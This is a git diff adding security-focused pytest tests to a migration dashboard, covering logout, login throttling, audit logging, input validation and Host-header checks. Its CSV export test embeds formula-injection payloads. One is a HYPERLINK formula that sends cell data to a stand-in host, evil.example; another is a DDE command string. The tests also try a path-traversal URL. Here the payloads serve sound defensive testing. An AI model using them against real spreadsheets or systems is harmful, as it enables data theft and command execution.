@@ -124,6 +124,154 @@ def test_login_form_token_and_open_redirects(app):
         assert r.headers["location"] == "/"
 
 
+def test_logging_out_ends_the_session_on_the_server(app, migrated):
+    with client(app, OPERATOR) as c:
+        page = c.get(f"/departments/testamt/items/{migrated.docx_id}").text
+        token, copied = csrf_of(page), c.cookies["umstieg_session"]
+        assert c.post("/logout", data={"csrf": token}).status_code == 303
+    with client(app) as thief:                        # someone who copied the cookie before the logout
+        thief.cookies.set("umstieg_session", copied)
+        assert thief.get("/").status_code == 303
+        r = thief.post(f"/departments/testamt/items/{migrated.docx_id}/annotation",
+                       data={"csrf": token, "verdict": "accepted", "comment": "nach dem Abmelden"})
+        assert r.status_code == 401
+    from reports.dashboard import document
+    note = document(app.state.site.ledger_of["testamt"], "testamt", migrated.docx_id)["annotation"]
+    assert note is None or note["comment"] != "nach dem Abmelden"
+    # the session store keeps no cookie value: a copy of its file opens nothing
+    import sqlite3
+    with sqlite3.connect(app.state.store.path) as db:
+        stored = {row[0] for row in db.execute("SELECT token_hash FROM sessions")}
+    assert copied not in stored
+
+
+@pytest.fixture
+def throttled_app(migrated, tmp_path):
+    """Its own dashboard (own session store) with a small throttle, so that locking out does not
+    touch the other tests' logins."""
+    from umstieg.dashboard import Site, create_app
+    from umstieg.dashboard.auth import load_accounts
+    from umstieg.dashboard.store import Throttle
+    accounts = load_accounts(users_file(tmp_path / "users.yaml", {u: (r, p) for u, r, p in (VIEWER, OPERATOR)}))
+    site = Site([migrated.dept_file], accounts=accounts, state_dir=tmp_path / "state",
+                throttle=Throttle(per_login=3, per_address=6, window=600))
+    return create_app(site)
+
+
+def test_failed_logins_are_throttled_per_login_and_per_address_with_a_clear_message(throttled_app):
+    with client(throttled_app) as c:
+        for _ in range(3):
+            assert login(c, "vera", "falsch").status_code == 401
+        r = login(c, *VIEWER[::2])                      # the right password, but too late
+        assert r.status_code == 429 and "umstieg_session" not in c.cookies
+        assert "Too many failed logins for this login" in text_of(r.text) and int(r.headers["retry-after"]) > 0
+        assert re.search(r"Try again in \d+ minutes", text_of(r.text))
+        # another login from the same address still gets in, until the address has failed too often
+        assert login(c, *OPERATOR[::2]).status_code == 303
+        c.cookies.clear()
+        for who in ("a", "b", "c"):
+            assert login(c, who, "x").status_code == 401
+        r = login(c, *OPERATOR[::2])
+        assert r.status_code == 429 and "Too many failed logins from your address" in text_of(r.text)
+    de = client(throttled_app)
+    form = de.get("/login", headers={"Accept-Language": "de"}).text
+    token = re.search(r'name="token" value="([^"]+)"', form).group(1)
+    r = de.post("/login", data={"username": "otto", "password": OPERATOR[2], "token": token},
+                headers={"Accept-Language": "de"})
+    assert r.status_code == 429 and "Zu viele" in text_of(r.text)
+
+
+def test_the_audit_log_records_logins_failed_logins_reruns_and_annotations(app, migrated, site):
+    from umstieg.dashboard.store import Audit
+    path = Audit.path(site.departments["testamt"].work_dir)
+    before = path.read_text(encoding="utf-8").count("\n") if path.exists() else 0
+    with client(app) as c:
+        login(c, "otto", "falsch-geraten")
+        login(c, *OPERATOR[::2])
+        url = f"/departments/testamt/items/{migrated.failed_id}"
+        token = csrf_of(c.get(url).text)
+        assert c.post(f"{url}/annotation", data={"csrf": token, "verdict": "manual_work"}).status_code == 303
+    import json
+    entries = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()[before:]]
+    assert [e["action"] for e in entries] == ["login_failed", "login", "annotation"]
+    for e in entries:
+        assert e["client"] == "testclient" and e["user"] == "otto"
+        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", e["time"])
+    assert entries[2]["target"] == f"testamt: item {migrated.failed_id}" and entries[2]["verdict"] == "manual_work"
+    assert "falsch-geraten" not in path.read_text(encoding="utf-8") and OPERATOR[2] not in path.read_text()
+    # kept with the department, outside the report folder the dashboard serves
+    assert not path.resolve().is_relative_to(site.report_dir("testamt").resolve())
+    with client(app, VIEWER) as c:
+        assert c.get("/departments/testamt/files/../audit/dashboard.jsonl").status_code == 404
+
+
+def test_queries_are_validated_into_the_error_page_and_head_is_answered(viewer, migrated):
+    for url in ("/departments/testamt?page=abc", "/departments/testamt?page=99999999999999999999",
+                "/departments/testamt?page=0", "/departments/testamt?batch=abc",
+                "/departments/testamt?batch=99999999999999999999", "/departments/testamt/items/99999999999999999999",
+                "/departments/testamt/assessment?page=x", "/departments/testamt/reruns/abc"):
+        r = viewer.get(url)
+        assert r.status_code == 400, url
+        assert r.headers["content-type"].startswith("text/html") and "<h1>" in r.text, url
+        assert "not valid" in r.text and '"detail"' not in r.text, url
+    head = viewer.head("/departments/testamt")
+    get = viewer.get("/departments/testamt")
+    assert head.status_code == 200 and head.content == b"" and head.headers["content-type"] == get.headers["content-type"]
+    assert viewer.head("/tables/departments.csv").status_code == 200
+    assert viewer.head("/departments/nowhere").status_code == 404
+    assert viewer.delete("/").status_code == 405
+
+
+def test_csv_exports_neutralise_formulas(tmp_path):
+    """File names and messages that a spreadsheet program would run as formulas reach the CSV as text."""
+    import csv as csvmod
+
+    import yaml
+
+    from core.ledger import Item, Ledger
+    from umstieg.dashboard import Site, create_app
+    url = f"sqlite:///{tmp_path / 'ledger.sqlite'}"
+    dept_file = tmp_path / "amt.yaml"
+    dept_file.write_text(yaml.safe_dump({
+        "name": "formelamt", "work_dir": str(tmp_path / "work"), "ledger": url,
+        "users": [{"source": "mallory", "target": "t-mallory"}],
+        "sources": [{"name": "homes", "type": "folder", "root": str(tmp_path)}],
+        "target": {"type": "localdir", "root": str(tmp_path / "target")}}), encoding="utf-8")
+    ledger = Ledger(url)
+    ledger.migrate()
+    run = ledger.start_run("formelamt", "migrate")
+    evil = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klick\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+            "\t=1+1", "harmlos.txt"]
+    with ledger.session() as s:
+        for n, name in enumerate(evil):
+            s.add(Item(department="formelamt", source="homes", key=f"k{n}", kind="file", owner="mallory",
+                       target_owner="t-mallory", location=name, target_stem=name, version="1", state="failed",
+                       reason="load_error", message=name))
+    ledger.finish_run(run, "completed", {})
+    ledger.close()
+    with TestClient(create_app(Site([dept_file])), base_url="http://127.0.0.1") as c:
+        for url in ("/departments/formelamt/tables/items.csv", "/departments/formelamt/tables/failures.csv"):
+            text = c.get(url).content.decode("utf-8-sig")
+            cells = [cell for row in csvmod.reader(io.StringIO(text)) for cell in row]
+            assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], (url, cells)
+        paths = pd.read_csv(io.StringIO(c.get("/departments/formelamt/tables/items.csv").content.decode("utf-8-sig")))
+        assert list(paths["Path"]) == ["'" + e if e != "harmlos.txt" else e for e in evil]
+        assert list(paths["Item"]) == sorted(paths["Item"])             # ids stay numbers
+
+
+def test_without_logins_only_loopback_host_names_are_answered(migrated):
+    from umstieg.dashboard import Site, create_app
+    with TestClient(create_app(Site([migrated.dept_file])), base_url="http://127.0.0.1:8350",
+                    follow_redirects=False) as c:
+        assert c.get("/").status_code == 200
+        for host in ("localhost:8350", "[::1]:8350", "127.0.0.1"):
+            assert c.get("/", headers={"Host": host}).status_code == 200, host
+        for host in ("evil.example", "evil.example:8350", "127.0.0.1.evil.example", ""):
+            r = c.get("/departments/testamt", headers={"Host": host})
+            assert r.status_code == 421 and "testamt" not in r.text, host
+            assert c.get("/tables/departments.csv", headers={"Host": host}).status_code == 421
+
+
 # ------------------------------------------------------------------------------------ pages
 def test_overview_shows_each_department_with_phase_progress_verdicts_and_failures(viewer):
     r = viewer.get("/")
@@ -133,12 +281,13 @@ def test_overview_shows_each_department_with_phase_progress_verdicts_and_failure
     assert 'href="/departments/testamt"' in r.text
     csv = pd.read_csv(io.BytesIO(viewer.get("/tables/departments.csv").content), encoding="utf-8-sig")
     record = csv.set_index("Department").loc["testamt"]
-    assert (record["Phase"], record["Items"], record["Done"], record["Failed"], record["Remaining"]) == \
-        ("bulk", 5, 4, 1, 0)
+    assert (record["Phase"], record["Items"], record["Done"] + record["Needs a person"], record["Failed"],
+            record["Remaining"], record["Waiting"]) == ("bulk", 5, 4, 1, 0, 0)
+    assert record["% done"] == round(100 * record["Done"] / 5, 1)
     assert record["Items per second"] > 0
     verdicts = pd.read_csv(io.BytesIO(viewer.get("/tables/verdicts.csv").content), encoding="utf-8-sig")
     assert verdicts[["identical", "minor", "review", "broken"]].sum(axis=1).iloc[0] == 4   # 3 of anna, 1 of ben
-    assert "<svg" in r.text and "<title" in r.text and "<desc" in r.text      # charts with text alternatives
+    assert '<svg class="stack"' in r.text and "<title" in r.text      # one stacked bar each, with its words
 
 
 def test_overview_exports_to_one_self_contained_html_file(viewer):
@@ -274,6 +423,12 @@ def test_every_message_has_a_german_and_a_french_translation():
     from umstieg.dashboard.i18n import LOCALE_DIR
     root = Path(__file__).resolve().parents[1]
     ids = set(data.STATES) | set(data.PHASES) | set(data.VERDICTS) | set(data.ANNOTATION_VERDICTS)
+    ids |= set(data.CATEGORIES) | set(data.ATTENTION) | {label for _, label in data.ATTENTION_COLUMNS}
+    ids |= {"load_error", "extract_error", "convert_error", "verify_error", "transient", "conversion_timeout",
+            "conversion_crashed", "conversion_too_large", "conversion_unwritable", "changed_at_source", "locked",
+            "starting", "running", "completed", "failed", "refused", "interrupted", "crashed", "migrate", "rerun"}
+    from reports.migration import NOT_MOVED_REASONS, RENAME_REASONS
+    ids |= set(NOT_MOVED_REASONS) | set(RENAME_REASONS)
     for template in (root / "umstieg" / "dashboard" / "templates").glob("*.html"):
         text = template.read_text(encoding="utf-8")
         ids |= set(re.findall(r'_\("([^"]+)"\)', text)) | set(re.findall(r"_\('([^']+)'\)", text))
@@ -349,7 +504,56 @@ def test_an_operator_reruns_the_failed_items_after_the_fix_and_sees_them_finish(
     assert document(site.ledger_of["testamt"], "testamt", migrated.failed_id)["item"]["state"] == "verified"
     overview = pd.read_csv(io.BytesIO(viewer.get("/tables/departments.csv").content), encoding="utf-8-sig")
     assert overview.set_index("Department").loc["testamt", "Failed"] == 0
-    assert "Latest reruns" in viewer.get("/departments/testamt").text
+    page = viewer.get("/departments/testamt").text
+    assert "Latest runs" in page
+    reports = re.findall(r'href="(/departments/testamt/files/run-\d+\.md)"', page)
+    assert len(reports) == 2 and all(viewer.get(r).status_code == 200 for r in reports)    # migrate and rerun
+    log = next(site.departments["testamt"].work_dir.joinpath("dashboard", "reruns").glob("rerun-*.log"))
+    assert not log.resolve().is_relative_to(site.report_dir("testamt").resolve())   # not served to viewers
+
+
+def test_a_rerun_that_crashes_says_why_and_none_starts_while_a_run_lives(operator, viewer, migrated, site, tmp_path):
+    import json
+    import os
+    import socket
+
+    from core.ledger import Run
+    led = site.ledger_of["testamt"]
+    token = csrf_of(operator.get("/departments/testamt").text)
+    # a run of the department is alive (this process, on this host): no rerun, and the button says why
+    run = led.start_run("testamt", "migrate")
+    try:
+        with led.session() as s:
+            s.get(Run, run).summary = {"host": socket.gethostname(), "pid": os.getpid()}
+        from core.ledger import Item
+        with led.session() as s:                      # one failed item, so that the form shows
+            s.get(Item, migrated.failed_id).state = "failed"
+        page = operator.get("/departments/testamt").text
+        assert 'id="rerun-busy"' in page and "disabled" in page and f"run {run}" in text_of(page)
+        r = operator.post("/departments/testamt/rerun", data={"csrf": token})
+        assert r.status_code == 409 and "is going on" in text_of(r.text)
+    finally:
+        led.finish_run(run, "completed", {})
+    # the child crashes before it opens a run (its department file went bad): it says so in plain words
+    broken = tmp_path / "broken.yaml"
+    broken.write_text("name: testamt\nusers: [\n", encoding="utf-8")
+    good = site.files["testamt"]
+    site.files["testamt"] = broken
+    try:
+        r = operator.post("/departments/testamt/rerun", data={"csrf": token})
+        assert r.status_code == 303
+        deadline = time.monotonic() + 120
+        while "rerun-finished" not in (page := viewer.get(r.headers["location"]).text):
+            assert time.monotonic() < deadline, page
+            time.sleep(0.5)
+    finally:
+        site.files["testamt"] = good
+    text = text_of(page)
+    assert "crashed" in text and "before it could open a run" in text and "broken.yaml" in text, text
+    assert "Traceback" not in page and "finished:" not in text
+    audit = [json.loads(line) for line in (site.departments["testamt"].work_dir / "audit" / "dashboard.jsonl")
+             .read_text(encoding="utf-8").splitlines()]
+    assert audit[-1]["action"] == "rerun" and audit[-1]["user"] == "otto" and audit[-1]["target"].startswith("testamt")
 
 
 # ------------------------------------------------------------------------------------ the command
@@ -373,7 +577,8 @@ def test_the_command_refuses_open_access_off_loopback_and_plaintext_passwords(mi
 
 def test_without_logins_the_dashboard_is_read_only(migrated):
     from umstieg.dashboard import Site, create_app
-    with TestClient(create_app(Site([migrated.dept_file])), follow_redirects=False) as c:
+    with TestClient(create_app(Site([migrated.dept_file])), base_url="http://127.0.0.1",
+                    follow_redirects=False) as c:
         page = c.get("/departments/testamt")
         assert page.status_code == 200 and "Read-only" in page.text and "/rerun" not in page.text
         assert c.post("/departments/testamt/rerun", data={"csrf": ""}).status_code == 401
